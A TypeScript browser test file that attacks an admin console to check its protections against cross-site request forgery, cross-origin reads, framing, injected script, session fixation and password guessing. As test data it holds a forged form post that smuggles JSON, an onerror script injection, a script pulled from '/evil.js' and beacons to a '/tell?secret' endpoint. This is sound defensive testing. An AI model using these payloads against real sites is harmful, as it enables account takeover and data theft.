// Attacks on the console in a real browser: pages of elsewhere while the operator is logged in, a script that slipped into the
// page, a frame around it, a session that somebody planted, passwords that are guessed, a stream that outlives its session.
//
// The hostile page is served on the console's own host at another port, over TLS: cookies do not tell ports apart, so that
// SameSite does not protect here, and everything rests on the origin and the token.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createServer as createPlainServer, type RequestListener } from 'node:http'
import { createServer } from 'node:https'
import type { AddressInfo, Server } from 'node:net'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import { logIn, Pages, waitMs, withoutBrowser } from './browser.ts'
import { type Cluster, startCluster } from './cluster.ts'

const portOffset = 15_800

describe('attacks on the console', { skip: withoutBrowser, timeout: 240_000 }, () => {
  const pages = new Pages()
  const servers: Server[] = []
  let cluster: Cluster
  let near = ''
  let far = ''

  before(async () => {
    cluster = await startCluster({ portOffset, args: ['--nodes', '1'] })
    await pages.start()
    const identity = join(cluster.node(0).dataDir, 'identity')
    const key = readFileSync(join(identity, 'server-key.pem'))
    const cert = readFileSync(join(identity, 'server.pem'))
    const answer: RequestListener = (_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end('<!doctype html><title>elsewhere</title><body>elsewhere</body>')
    }
    near = `https://127.0.0.1:${await listen(createServer({ key, cert }, answer))}`
    far = `http://127.0.0.1:${await listen(createPlainServer(answer))}`
  })
  after(async () => {
    await pages.stop()
    for (const server of servers) server.close()
    await cluster?.stop()
  })

  async function listen(server: Server): Promise<number> {
    servers.push(server)
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    return (server.address() as AddressInfo).port
  }
  const admin = (): string => cluster.node(0).admin
  const home = (): string => `${admin()}/console/`
  const password = (): string => cluster.line.console?.password ?? ''
  async function openLoggedIn(): Promise<Page> {
    const page = await pages.open({}, { isHostile: true })
    await logIn(page, home(), { password: password() })
    return page
  }
  const tokensOf = async (page: Page): Promise<number> => {
    const answer = await page.request.get(`${admin()}/v1/tokens`, { timeout: waitMs })
    assert.equal(answer.status(), 200)
    return ((await answer.json()) as { tokens: unknown[] }).tokens.length
  }

  it('changes nothing for a page of elsewhere, whatever it sends', async () => {
    const page = await openLoggedIn()
    for (const place of [near, far]) {
      const other = await page.context().newPage()
      await other.goto(place)
      const target = JSON.stringify(`${admin()}/v1/tokens`)
      const sent = await other.evaluate(`(async () => {
        const body = '{"uses":1}'
        const tries = [
          { mode: 'no-cors', headers: { 'content-type': 'text/plain' } },
          { mode: 'cors', headers: { 'content-type': 'application/json' } },
          { mode: 'cors', headers: { 'content-type': 'application/json', 'x-atoll-csrf': 'guess' } },
        ]
        const told = []
        for (const one of tries) {
          const asked = fetch(${target}, { method: 'POST', credentials: 'include', body, ...one })
          told.push(await asked.then((got) => got.type + ' ' + got.status, () => 'refused'))
        }
        return told
      })()`)
      assert.deepEqual(sent, ['opaque 0', 'refused', 'refused'], place)
      const answered = other.waitForResponse((got) => got.request().method() === 'POST')
      await other.evaluate(`(() => {
        const form = document.createElement('form')
        Object.assign(form, { method: 'post', enctype: 'text/plain', action: ${target} })
        const field = document.createElement('input')
        Object.assign(field, { name: '{"uses":1,"name":"', value: '"}' })
        form.append(field)
        document.body.append(form)
        form.submit()
      })()`)
      assert.equal((await answered).status(), 403, place)
      // Closing a page within its navigation may never end.
      await other.waitForLoadState()
    }
    assert.equal(await tokensOf(page), 0)
    // The console's own page may.
    await page.getByRole('link', { name: 'Join', exact: true }).click()
    await page.getByRole('button', { name: 'Create token' }).click()
    await page.getByTestId('token').waitFor()
    assert.equal(await tokensOf(page), 1)
  })

  it('tells a page of elsewhere nothing: no answer, no session, no stream', async () => {
    const page = await openLoggedIn()
    const other = await page.context().newPage()
    await other.goto(near)
    const told = await other.evaluate(`Promise.all(
      ['/v1/status', '/v1/console/session', '/cluster/events'].map((path) =>
        fetch(${JSON.stringify(admin())} + path, { credentials: 'include' }).then((got) => got.text(), () => 'refused')))`)
    assert.deepEqual(told, ['refused', 'refused', 'refused'])
    const heard = await other.evaluate(`new Promise((resolve) => {
      const source = new EventSource(${JSON.stringify(`${admin()}/cluster/events/stream`)}, { withCredentials: true })
      source.addEventListener('ready', () => resolve('ready'))
      source.onerror = () => { source.close(); resolve('refused') }
    })`)
    assert.equal(heard, 'refused')
  })

  it('is shown in no frame', async () => {
    const page = await openLoggedIn()
    const other = await page.context().newPage()
    await other.goto(near)
    await other.evaluate(`(() => {
      const frame = document.createElement('iframe')
      frame.src = ${JSON.stringify(home())}
      document.body.append(frame)
      return new Promise((resolve) => { frame.onload = resolve })
    })()`)
    const framed = other.frames().find((frame) => frame !== other.mainFrame())
    assert.doesNotMatch((await framed?.content()) ?? '', /Atoll/)
    assert.ok(!(framed?.url() ?? '').startsWith(home()), framed?.url())
  })

  it('runs no script and no style that is not a file of its own', async () => {
    const page = await openLoggedIn()
    const policy = (await page.request.get(home())).headers()['content-security-policy'] ?? ''
    assert.match(policy, /default-src 'none'/)
    assert.doesNotMatch(policy, /unsafe/)
    const forbidden = (await page.evaluate(`(async () => {
      const broken = []
      const all = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          if (!broken.includes(event.effectiveDirective)) broken.push(event.effectiveDirective)
          if (broken.length === 6) resolve()
        })
      })
      const add = (name, parts) => document.body.append(Object.assign(document.createElement(name), parts))
      add('script', { textContent: 'window.ran = true' })
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = true">')
      document.body.insertAdjacentHTML('beforeend', '<p style="color: red">x</p>')
      add('script', { src: ${JSON.stringify(near)} + '/evil.js' })
      add('img', { src: ${JSON.stringify(near)} + '/tell?secret' })
      await fetch(${JSON.stringify(near)} + '/tell').catch(() => undefined)
      add('iframe', { src: ${JSON.stringify(near)} })
      await all
      return { ran: window.ran === true, broken: broken.sort() }
    })()`)) as { readonly ran: boolean; readonly broken: readonly string[] }
    assert.equal(forbidden.ran, false)
    assert.deepEqual(forbidden.broken, [
      'connect-src',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
    ])
  })

  it('takes over no session that was planted, and ends it', async () => {
    const attacker = await openLoggedIn()
    const own = (await attacker.context().cookies()).find(({ name }) => name === '__Host-atoll')
    assert.ok(own !== undefined)
    const victim = await pages.open({}, { isHostile: true })
    await victim.context().addCookies([own])
    await victim.goto(home())
    await victim.getByRole('heading', { name: 'Overview', level: 1 }).waitFor()
    const body = { operator: 'admin', password: password() }
    const answer = await victim.request.post(`${admin()}/v1/console/login`, { data: body })
    assert.equal(answer.status(), 200)
    const now = (await victim.context().cookies()).find(({ name }) => name === '__Host-atoll')
    assert.ok(now !== undefined && now.value !== own.value)
    const stale = await attacker.request.get(`${admin()}/v1/status`, { timeout: waitMs })
    assert.equal(stale.status(), 403)
    // The attacker's page was told by its stream, or by the next thing that it asked for.
    await attacker.getByText('Your session has ended.').waitFor()
  })

  it('lets nobody guess: tries run out, and the page says for how long', async () => {
    const page = await pages.open({}, { isHostile: true })
    await page.goto(home())
    await page.getByLabel('Operator').fill('somebody')
    const enter = page.getByRole('button', { name: 'Log in' })
    let tries = 0
    for (; tries < 20; tries++) {
      await page.getByLabel('Password').fill(`guess number ${tries}`)
      const answered = page.waitForResponse((got) => got.url().endsWith('/v1/console/login'))
      await enter.click()
      if ((await answered).status() !== 403) break
    }
    assert.equal(tries, 8)
    await page.getByText(/Too many tries to log in\. Next: wait \d+ seconds\./).waitFor()
    // The operator himself is not shut out by somebody who guesses another name.
    await openLoggedIn()
  })
})
